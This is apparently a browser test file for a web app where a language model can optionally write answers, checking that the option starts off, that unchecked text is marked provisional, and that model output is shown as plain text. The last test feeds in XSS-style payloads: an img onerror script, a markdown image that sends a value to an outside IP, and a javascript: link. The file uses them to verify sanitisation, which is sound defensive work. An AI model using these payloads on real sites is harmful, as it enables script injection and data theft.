"""Answers by a language model on the page, in a real browser: provisional until checked, text and nothing but text."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from assistant.assistant import Assistant
from assistant.writing.endpoint import Endpoint
from assistant.writing.settings import WritingSettings
from assistant.writing.writer import Writer
from tests.ui.conftest import Served, Watched, listening, watching
from tests.writing.fake_endpoint import FakeEndpoint
from ui.web.app import build

QUESTION = "What was done on hate crime in Q2 2023/24?"


@dataclass
class Written:
    """A page whose answers a fake model may write."""

    window: Watched
    fake: FakeEndpoint


def telling(prompt: str) -> str:
    """A model that tells the first two pieces of its evidence."""
    found = re.findall(r"<source (\d+)>.*?Words: (.*?)(?:\.|; |\n)", prompt, re.S)
    return " ".join(f"{words} [{n}]." for n, words in found[:2])


@pytest.fixture
def written(chromium: Any, served: Served) -> Iterator[Written]:
    with FakeEndpoint(telling) as fake:
        settings = WritingSettings(llm_url=fake.url, llm_model="fake", llm_seconds=5)
        server, thread, port = listening(build(served.library, Assistant(served.library, Writer(Endpoint(settings)))))
        with watching(chromium, f"http://127.0.0.1:{port}/") as window:
            yield Written(window, fake)
        server.should_exit = True
        thread.join(20)


def test_without_a_language_model_there_is_no_switch(window: Watched) -> None:
    assert window.page.locator("#written").count() == 0 or not window.page.locator("#written").is_visible()


def test_it_is_off_until_somebody_switches_it_on(written: Written) -> None:
    box = written.window.page.get_by_label("Have a language model write the answers")
    assert not box.is_checked()
    assert "Written by a language model" not in written.window.ask(QUESTION)
    assert not written.fake.chats
    box.check()
    assert "Written by a language model; every sentence was checked" in written.window.ask(QUESTION)
    assert len(written.fake.chats) == 1


def test_text_is_provisional_while_it_is_written(written: Written) -> None:
    page = written.window.page
    written.fake.misbehave = "hangs-mid"
    page.get_by_label("Have a language model write the answers").check()
    page.locator("#question textarea").fill(QUESTION)
    page.locator("#ask-button").click()
    page.locator("#chat .provisional").wait_for(timeout=30_000)
    assert "not checked against the papers yet" in page.locator("#chat .provisional").inner_text()
    page.locator("#chat .how").wait_for(timeout=30_000)
    assert page.locator("#chat .provisional").count() == 0
    assert "61 hate crimes" in page.locator("#chat .said").last.inner_text()
    assert "papers' own words" in page.locator("#chat .how").inner_text()


def test_markup_of_a_model_is_text(written: Written) -> None:
    page = written.window.page
    page.get_by_label("Have a language model write the answers").check()
    written.fake.answer = lambda prompt: (
        "<img src=x onerror=window.stolen=1> ![x](http://192.0.2.1/?q=61) <b>There</b> "
        f"[click](javascript:window.stolen=2) {telling(prompt)}"
    )
    written.window.ask(QUESTION)
    said = page.locator("#chat .bot-row").last
    assert said.locator("img, b, script, iframe").count() == 0
    assert all(
        "/source/" in str(a.get_attribute("href")) or "/evaluate" in str(a.get_attribute("href"))
        for a in said.locator("a").all()
    )
    assert page.evaluate("window.stolen") is None
